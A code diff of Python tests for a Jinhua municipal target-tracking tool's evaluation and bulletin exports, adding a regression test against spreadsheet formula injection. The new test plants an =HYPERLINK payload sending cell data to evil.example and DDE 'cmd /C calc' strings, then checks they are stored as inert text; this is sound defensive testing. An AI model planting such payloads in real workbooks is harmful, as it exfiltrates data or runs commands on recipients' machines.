@@ -57,48 +57,17 @@ def test_it_judges_the_year_with_margins_and_sources(plan: Plan, tmp_path: Path)
     call_command("evaluate", "--plan", plan.slug, "--year", "2024", stdout=out)
     text = out.getvalue()
     assert text.startswith("金华市2024年 131个目标：无结果124个，已完成5个，未完成2个")
-    assert "1.1.3    未完成  固定资产投资增长10%以上  实际 5.3  差额 -4.7个百分点" in text
+    assert "1.1.3    未完成  固定资产投资增长10%以上  实际 5.3%  差额 -4.7个百分点" in text
     path = tmp_path / "评定.xlsx"
     call_command("evaluate", "--plan", plan.slug, "--format", "xlsx", "-o", str(path), stdout=io.StringIO())
-    rows = list(load_workbook(path)["年终评定"].iter_rows(values_only=True))
-    exports = next(r for r in rows if r[0] == "1.3.3")
-    assert exports[4:7] == ("已完成", "7719.2", "+719.2亿元")
-    assert exports[7].startswith("https://epaper.jhnews.com.cn/")
-
-
-def test_it_writes_the_monthly_bulletin_as_word_pdf_and_excel(plan: Plan, tmp_path: Path) -> None:
-    import shutil
-    import subprocess
-
-    call_command("export", "bulletin", "--plan", plan.slug, "--period", "2024-06", "-o", str(tmp_path),
-                 stdout=io.StringIO())
-    stem = tmp_path / "jinhua-2024-2024-06-督查通报"
-
-    document = docx.Document(str(stem.with_suffix(".docx")))
-    texts = [p.text for p in document.paragraphs]
-    assert texts[0] == "关于金华市2024年政府工作报告目标任务6月份推进情况的通报"
-    assert "一、总体情况" in texts and "五、滞后目标（按牵头单位）" in texts
-    assert any(t.startswith("截至2024年6月底，金华市2024年政府工作报告确定的131个目标中") for t in texts)
-    assert any(t == "附件1 主要经济指标完成情况" for t in texts)
-    assert any(row.cells[0].text == "1.1.2" for table in document.tables for row in table.rows)
-
-    book = load_workbook(Path(f"{stem}-附件.xlsx"))
-    assert book.sheetnames == ["附件1", "附件2", "附件3"]
-    first = list(book["附件1"].iter_rows(values_only=True))
-    assert first[1] == ("编号", "目标", "牵头单位", "实际", "完成率", "序时进度", "状态")
-    assert first[2][0] == "0.0.1" and first[2][6].endswith("）")
-
-    pdf = stem.with_suffix(".pdf")
-    assert pdf.read_bytes().startswith(b"%PDF")
-    for tool in ("pdftotext", "pdffonts", "pdftoppm"):
-        assert shutil.which(tool), f"{tool} (poppler-utils) is needed: make test installs it"
-    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
-    assert "一、总体情况" in text and "附件3 节点目标完成情况" in text
-    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
-    assert "CJK" in fonts and all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:])  # embedded
-    subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")],
-                   check=True)
-    assert (tmp_path / "page-01.png").stat().st_size > 10_000  # a page with text on it, not a blank one
+    sheet = load_workbook(path)["年终评定"]
+    exports = next(r for r in sheet.iter_rows() if r[0].value == "1.3.3")
+    assert [c.value for c in exports[4:7]] == ["已完成", 7719.2, 719.2]  # numbers, that sum and sort
+    assert exports[5].number_format == '#,##0.0"亿元"'
+    assert exports[6].number_format.startswith('+#,##0.0"亿元";-')
+    assert exports[7].value.startswith("https://epaper.jhnews.com.cn/")
+    investment = next(r for r in sheet.iter_rows() if r[0].value == "1.1.3")
+    assert (investment[5].value, investment[5].number_format) == (pytest.approx(0.053), "#,##0.0%")
 
 
 def test_it_names_a_bad_period_for_the_bulletin(plan: Plan) -> None:
@@ -106,3 +75,38 @@ def test_it_names_a_bad_period_for_the_bulletin(plan: Plan) -> None:
 
     with pytest.raises(CommandError, match="--period 'June' is not a period"):
         call_command("export", "bulletin", "--plan", plan.slug, "--period", "June")
+
+
+def test_it_writes_what_would_be_a_formula_as_text_in_every_workbook(plan: Plan, tmp_path: Path) -> None:
+    """The attack (issue 12): a liaison's 来源 is =HYPERLINK(…); a target's words and a unit's name
+    start with = + - @. Every .xlsx the office sends must show them as text, never run them."""
+    from luoshi.progress.models import Observation
+    from luoshi.reports.exports import breakdown_file, bulletin_files, evaluation_file
+    from luoshi.units.models import Unit
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    target = plan.targets.get(code="1.3.3")
+    Observation.objects.filter(target=target).update(source=attack)
+    plan.targets.filter(code="1.1.2").update(indicator_text="+1+cmd|' /C calc'!A0")
+    Unit.objects.filter(name="金华市商务局").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    Unit.objects.filter(name="金华市统计局").update(name="-2+3")
+    workbooks = [breakdown_file(plan, "xlsx")[0], evaluation_file(plan, 2024)[0],
+                 *[content for _, content in bulletin_files(plan, "2024-06", ["xlsx"])]]
+    path = tmp_path / "template.xlsx"
+    from luoshi.progress.sheets import template
+
+    template(plan, "2024-06").save(path)
+    workbooks.append(path.read_bytes())
+    seen = set()
+    for content in workbooks:
+        book = load_workbook(io.BytesIO(content))
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
+                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} would become a formula when edited"
+                        seen.add(cell.value[:1])
+    assert seen == {"=", "+", "-", "@"}  # each attack did reach a workbook, as text
+    evaluation = load_workbook(io.BytesIO(workbooks[1]))["年终评定"]
+    assert any(c.value == attack for row in evaluation.iter_rows() for c in row)
